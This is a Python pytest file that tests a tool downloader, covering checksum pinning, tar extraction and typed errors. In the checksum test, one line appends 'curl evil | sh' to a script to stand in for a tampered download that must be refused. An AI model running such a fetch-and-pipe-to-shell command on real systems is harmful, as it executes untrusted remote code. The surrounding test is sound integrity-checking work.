import hashlib
import io
import tarfile
from dataclasses import replace
from pathlib import Path

import pytest

from domain.errors import BulkheadError, Reason
from infra.tools.program import Release, this_platform
from tests.infra.tools.workshop import Workshop, greeter, released

SCRIPT = b"#!/bin/sh\necho Greeter 1.0.0\n"
ARCH = this_platform().split("/")[1]


def _checksum(content: bytes) -> dict[str, str]:
    return {this_platform(): hashlib.sha256(content).hexdigest()}


def test_downloads_a_plain_program_when_there_is_no_go(
    workshop: Workshop, tmp_path: Path, releases: tuple[Path, str]
) -> None:
    directory, address = releases
    (directory / f"greeter-{ARCH}").write_bytes(SCRIPT)
    program = greeter(tmp_path / "module", "1.0.0")
    program = released(program, f"{address}/greeter-{{arch}}", _checksum(SCRIPT), None)

    path = workshop.toolbox(program, with_go=False).ensure(["greeter"])["greeter"]

    assert path.read_bytes() == SCRIPT
    assert path.stat().st_mode & 0o777 == 0o755
    assert workshop.build_count == 0


@pytest.mark.parametrize("prefix", ["", "./"])
def test_takes_the_program_out_of_a_tar_file(
    workshop: Workshop, tmp_path: Path, releases: tuple[Path, str], prefix: str
) -> None:
    directory, address = releases
    archive = _archive(f"{prefix}greeter-{ARCH}/greeter")
    (directory / "greeter.tar.gz").write_bytes(archive)
    program = greeter(tmp_path / "module", "1.0.0")
    url = f"{address}/greeter.tar.gz"
    program = released(program, url, _checksum(archive), "greeter-{arch}/greeter")

    path = workshop.toolbox(program, with_go=False).ensure(["greeter"])["greeter"]
    assert path.read_bytes() == SCRIPT

    assert program.release is not None
    wrong = replace(program, name="other", release=replace(program.release, member="missing"))
    with pytest.raises(BulkheadError, match="with a file missing in it"):
        workshop.toolbox(wrong, with_go=False).ensure(["other"])


def test_a_download_with_a_wrong_sha256_is_refused_and_thrown_away(
    workshop: Workshop, tmp_path: Path, releases: tuple[Path, str]
) -> None:
    directory, address = releases
    (directory / "greeter").write_bytes(SCRIPT + b"curl evil | sh\n")
    program = greeter(tmp_path / "module", "1.0.0")
    program = released(program, f"{address}/greeter", _checksum(SCRIPT), None)

    with pytest.raises(BulkheadError, match="is pinned to") as caught:
        workshop.toolbox(program, with_go=False).ensure(["greeter"])

    assert caught.value.reason is Reason.FAILED_PRECONDITION
    assert caught.value.metadata["expected"] == _checksum(SCRIPT)[this_platform()]
    assert not [path for path in workshop.cache.rglob("*greeter*") if path.is_file()]


@pytest.mark.parametrize("release", [None, Release(url="http://127.0.0.1:9/greeter", sha256={})])
def test_without_go_and_without_a_checksum_it_says_that_go_is_needed(
    workshop: Workshop, tmp_path: Path, release: Release | None
) -> None:
    program = replace(greeter(tmp_path / "module", "1.0.0"), release=release)

    with pytest.raises(BulkheadError, match=f"release for {this_platform()}.*Install Go") as caught:
        workshop.toolbox(program, with_go=False).ensure(["greeter"])

    assert caught.value.reason is Reason.FAILED_PRECONDITION


def test_a_program_with_c_parts_is_downloaded_where_there_is_no_compiler(
    workshop: Workshop, tmp_path: Path, releases: tuple[Path, str]
) -> None:
    directory, address = releases
    (directory / "greeter").write_bytes(SCRIPT)
    program = greeter(tmp_path / "module", "1.0.0")
    module = replace(program.module, static_libraries=("libc", "libseccomp"))
    program = replace(program, module=module)

    with pytest.raises(BulkheadError, match=r"gcc, libc6-dev, libseccomp-dev, pkg-config \("):
        workshop.toolbox(replace(program, release=None)).ensure(["greeter"])

    program = released(program, f"{address}/greeter", _checksum(SCRIPT), None)
    assert workshop.toolbox(program).ensure(["greeter"])["greeter"].read_bytes() == SCRIPT
    assert workshop.build_count == 0


def test_a_server_that_does_not_deliver_is_a_typed_error(
    workshop: Workshop, tmp_path: Path, releases: tuple[Path, str]
) -> None:
    program = greeter(tmp_path / "module", "1.0.0")
    program = released(program, f"{releases[1]}/absent", _checksum(SCRIPT), None)

    with pytest.raises(BulkheadError, match="404") as caught:
        workshop.toolbox(program, with_go=False).ensure(["greeter"])

    assert caught.value.retryable


def _archive(member: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        information = tarfile.TarInfo(member)
        information.size = len(SCRIPT)
        tar.addfile(information, io.BytesIO(SCRIPT))
    return buffer.getvalue()
